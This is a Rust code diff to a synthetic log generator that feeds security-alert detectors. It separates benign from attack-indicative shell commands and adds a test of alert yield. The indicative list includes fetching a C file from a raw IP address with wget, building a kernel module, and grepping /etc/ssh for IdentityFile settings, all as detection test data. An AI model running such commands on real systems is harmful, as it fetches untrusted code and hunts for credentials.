@@ -37,6 +37,12 @@ pub struct RecordStreamConfig {
     pub users: usize,
     /// Zipf exponent for user activity skew (0 = uniform).
     pub zipf_exponent: f64,
+    /// Fraction of command records drawn from the attack-indicative
+    /// palette (the rest are benign). The default matches the historical
+    /// 8-of-12 palette mix that keeps the per-entity detectors busy;
+    /// evaluation harnesses measuring false-positive rates set this low so
+    /// the background is genuinely benign.
+    pub indicative_exec_fraction: f64,
 }
 
 impl Default for RecordStreamConfig {
@@ -50,20 +56,22 @@ impl Default for RecordStreamConfig {
             exec_records: 40_000,
             users: 2_000,
             zipf_exponent: 1.1,
+            indicative_exec_fraction: 8.0 / 12.0,
         }
     }
 }
 
-/// Command palette for user sessions: a mix of benign commands (symbolize
-/// to nothing) and indicative ones (Significant-severity alerts that pass
-/// the scan filter and drive the per-entity detectors).
-const EXEC_CMDS: &[&str] = &[
-    // Benign (no alert).
+/// Benign command palette (symbolizes to nothing).
+const BENIGN_CMDS: &[&str] = &[
     "ls -la /scratch/project",
     "python3 train.py --epochs 10",
     "sbatch batch_job.sh",
     "tail -n 100 output.log",
-    // Indicative (one alert each).
+];
+
+/// Attack-indicative command palette (one Significant-severity alert each;
+/// passes the scan filter and drives the per-entity detectors).
+const INDICATIVE_CMDS: &[&str] = &[
     "wget http://64.215.4.5/abs.c",
     "make -C /lib/modules/4.4/build modules",
     "grep -r IdentityFile /etc/ssh",
@@ -128,7 +136,11 @@ pub fn record_stream(cfg: &RecordStreamConfig, rng: &mut SimRng) -> Vec<LogRecor
     for i in 0..cfg.exec_records {
         let t = ts(rng);
         let user_rank = zipf.sample(rng);
-        let cmd = EXEC_CMDS[rng.index(EXEC_CMDS.len())];
+        let cmd = if rng.chance(cfg.indicative_exec_fraction) {
+            INDICATIVE_CMDS[rng.index(INDICATIVE_CMDS.len())]
+        } else {
+            BENIGN_CMDS[rng.index(BENIGN_CMDS.len())]
+        };
         records.push(LogRecord::Process(ProcessRecord {
             ts: t,
             host: HostId((user_rank % 64) as u32),
@@ -186,6 +198,36 @@ mod tests {
             users.len() > 30,
             "zipf still spreads entities: {}",
             users.len()
+        );
+    }
+
+    #[test]
+    fn indicative_fraction_controls_alert_yield() {
+        let base = RecordStreamConfig {
+            scan_records: 0,
+            benign_flows: 0,
+            exec_records: 3_000,
+            users: 100,
+            ..RecordStreamConfig::default()
+        };
+        let yield_of = |frac: f64| {
+            let cfg = RecordStreamConfig {
+                indicative_exec_fraction: frac,
+                ..base.clone()
+            };
+            let mut sym = alertlib::Symbolizer::with_defaults();
+            let mut alerts = Vec::new();
+            for r in record_stream(&cfg, &mut SimRng::seed(2)) {
+                sym.symbolize_into(&r, &mut alerts);
+            }
+            alerts.len()
+        };
+        assert_eq!(yield_of(0.0), 0, "benign-only background raises no alerts");
+        let low = yield_of(0.05);
+        let high = yield_of(0.9);
+        assert!(
+            low > 0 && high > low * 5,
+            "fraction scales yield: {low} vs {high}"
         );
     }
 }
